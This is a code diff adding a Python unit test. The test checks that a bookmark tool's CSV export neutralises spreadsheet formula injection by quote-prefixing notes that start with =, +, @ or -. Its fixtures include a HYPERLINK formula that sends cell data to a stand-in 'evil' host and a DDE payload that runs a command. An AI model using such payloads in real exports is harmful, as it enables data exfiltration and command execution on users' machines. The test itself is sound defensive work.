@@ -186,6 +186,17 @@ def test_json_and_csv_exports_exactly(
     assert parsed[1]["seed"] == "7" and parsed[1]["episode_index"] == ""
 
 
+def test_csv_export_neutralises_spreadsheet_formulas(
+    demo_catalog: tuple[Catalog, EpisodeInfo],
+) -> None:
+    catalog, info = demo_catalog
+    notes = ['=HYPERLINK("http://evil/"&A1)', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "ok -1"]
+    marks = [add_bookmark(catalog, info.id, (i + 1) * MS, note) for i, note in enumerate(notes)]
+    parsed = list(csv.DictReader(io.StringIO(to_csv(bookmark_rows(info, marks, {})), newline="")))
+    assert [r["note"] for r in parsed] == [*("'" + n for n in notes[:4]), "ok -1"]
+    assert [r["t_ns"] for r in parsed] == [str((i + 1) * MS) for i in range(5)]  # numbers kept
+
+
 def test_write_export_by_suffix(tmp_path: Path, demo_catalog: tuple[Catalog, EpisodeInfo]) -> None:
     catalog, info = demo_catalog
     rows = bookmark_rows(info, [add_bookmark(catalog, info.id, 5 * MS, "a,b")], {})
